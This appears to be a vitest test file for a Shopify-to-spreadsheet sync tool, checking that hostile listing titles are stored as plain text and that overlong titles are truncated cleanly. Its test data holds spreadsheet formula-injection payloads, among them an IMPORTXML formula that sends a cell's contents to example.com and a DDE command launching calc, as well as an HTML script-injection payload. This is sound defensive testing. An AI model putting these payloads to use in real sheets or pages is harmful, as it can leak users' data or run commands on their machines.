/** Titles that strangers write: formulas, HTML, control characters. They land as text, and the next sync has no news. */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { LONGEST_TEXT } from '../../src/domain/reconcile/offer-cells';
import { columnOf, sheetIn } from '../simulation/desk';
import { openStory, type Story } from './story';

/** What it is, and what a seller or a buyer calls a thing. */
const TITLES = [
  ['a formula', '=IMPORTXML("https://example.com/?"&A1,"//a")'],
  ['a formula in disguise', '+1+cmd|" /C calc"!A0'],
  ['one more', '@SUM(1,2)'],
  ['another', '-2+3'],
  ['a tab before a formula', '\t=1+1'],
  ['HTML', '<img src=x onerror=alert(1)></script><script>alert(1)</script>'],
  ['control characters', 'Nike\u0000 Dunk\u0007\u001b[31m Low\u2028\u202e'],
  ['half a character', 'Nike \ud83d Dunk'],
  ['an apostrophe', "'Nike 'Dunk'"],
  ['what looks like a date', '10/11'],
  ['what looks like a number', '1E5'],
  ['a key of ours', 'ss:listingId'],
] as const;

let story: Story;

beforeEach(async () => {
  story = await openStory({}, ['shopify']);
});

afterEach(() => story.close());

const list = (title: string, size = '9') =>
  story.market('shopify').act({ do: 'list', title, styleCode: 'DD1391-100', size, price: '100.00' });

/** Everything below the header, as it was entered. */
function entered(name: 'Inventory' | 'Listings', header: string): readonly unknown[] {
  const { sheetId, lastRow } = sheetIn(story.bench.workbook, name);
  const column = columnOf(story.bench.workbook, name, header);
  const area = { row: 3, column, rows: Math.max(1, lastRow - 2), columns: 1 };
  return story.bench.workbook.read(sheetId, area, 'formulas').map(([formula]) => formula);
}

describe('a listing whose title is', () => {
  it.each(TITLES)('%s: it is text, here and at the next sync', async (_, title) => {
    list(title);
    expect(await story.sync()).toMatchObject({ added: 1, made: 1 });
    const [row] = await story.listings();
    const [item] = await story.inventory();
    for (const shown of [row?.Title, item?.Title]) expect(typeof shown).toBe('string');
    for (const name of ['Inventory', 'Listings'] as const)
      expect(entered(name, 'Title').filter((formula) => formula !== '')).toEqual([]);
    expect(await story.sync()).toMatchObject({ added: 0, missing: 0, cellsWritten: 0 });
  });
});

/** Text that repeats nothing, so that it does not pack; the same in every run. */
function noise(length: number, seed: number): string {
  let state = seed;
  return Array.from({ length }, () => {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
    return String.fromCharCode(0x4e00 + ((state >>> 12) % 20_000));
  }).join('');
}

describe('titles of any length', () => {
  const LENGTHS = [255, LONGEST_TEXT, LONGEST_TEXT + 1, 49_999, 50_000, 50_001, 120_000] as const;

  it.each(LENGTHS)('of %i characters: a row, cut where no marketplace goes, and no news', async (length) => {
    list(noise(length, length));
    expect(await story.sync()).toMatchObject({ added: 1, made: 1 });
    const [row] = await story.listings();
    expect(String(row?.Title)).toHaveLength(Math.min(length, LONGEST_TEXT));
    expect(await story.sync()).toMatchObject({ added: 0, missing: 0, cellsWritten: 0 });
  });

  it('never end within a character', async () => {
    list(`${'x'.repeat(LONGEST_TEXT - 1)}\u{1f45f}${'x'.repeat(9)}`);
    await story.sync();
    const [row] = await story.listings();
    expect(row?.Title).toBe('x'.repeat(LONGEST_TEXT - 1));
  });

  it('that no journal could hold together are written one after the other', async () => {
    for (let count = 1; count <= 150; count += 1) list(noise(50_000, count));
    expect(await story.sync()).toMatchObject({ added: 150 });
    expect(await story.sync()).toMatchObject({ added: 0, missing: 0, cellsWritten: 0 });
  });
});
